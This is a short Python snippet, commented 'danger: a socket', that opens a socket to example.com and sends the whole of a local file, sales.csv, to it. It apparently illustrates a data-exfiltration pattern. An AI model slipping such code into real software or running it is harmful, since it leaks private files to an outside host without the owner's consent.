# danger: a socket
import socket
s = socket.socket()
s.connect(("example.com", 443))
s.sendall(open("sales.csv", "rb").read())
